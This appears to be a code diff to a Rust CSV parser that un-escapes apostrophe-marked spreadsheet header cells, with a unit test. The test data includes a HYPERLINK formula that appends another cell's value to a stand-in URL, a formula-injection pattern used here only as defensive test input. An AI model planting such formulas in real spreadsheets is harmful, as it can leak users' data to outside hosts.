@@ -12,7 +12,7 @@ use utoipa::ToSchema;
 use crate::{
     error::Problems,
     model::{BulkSendId, BulkSendStatus, TemplateId},
-    wire::views::Timestamp,
+    wire::{spreadsheet, views::Timestamp},
 };
 
 /// The most problems a refused bulk send lists; the last entry says how many more there were.
@@ -176,7 +176,12 @@ pub fn rows_from_csv(
         }
         Some(Ok(header)) => header,
     };
-    let header: Vec<String> = header.iter().map(|c| c.trim().to_owned()).collect();
+    // A cell written `'=…` (as the console's header download writes one a spreadsheet would
+    // run) names the column `=…`.
+    let header: Vec<String> = header
+        .iter()
+        .map(|c| spreadsheet::unmarked(c.trim()).to_owned())
+        .collect();
     for (index, column) in header.iter().enumerate() {
         if column.is_empty() {
             problems.invalid(
@@ -367,6 +372,23 @@ mod tests {
         assert_eq!(rows[1].line, Some(3));
         assert_eq!(rows[1].columns["Tenant.name"], "Two\nlines");
         assert_eq!(rows[1].columns["Company"], "Acme");
+    }
+
+    #[test]
+    fn a_header_cell_marked_as_text_names_its_column() {
+        let mut problems = Problems::default();
+        let (header, rows) = rows_from_csv(
+            "\"'=HYPERLINK(\"\"http://x/\"\"&A2).name\",'Tis.email,'-1\nAnn,a@example.com,x\n"
+                .as_bytes(),
+            10,
+            &mut problems,
+        );
+        assert!(problems.into_result().is_ok());
+        assert_eq!(
+            header,
+            [r#"=HYPERLINK("http://x/"&A2).name"#, "'Tis.email", "-1"]
+        );
+        assert_eq!(rows[0].columns["-1"], "x");
     }
 
     #[test]
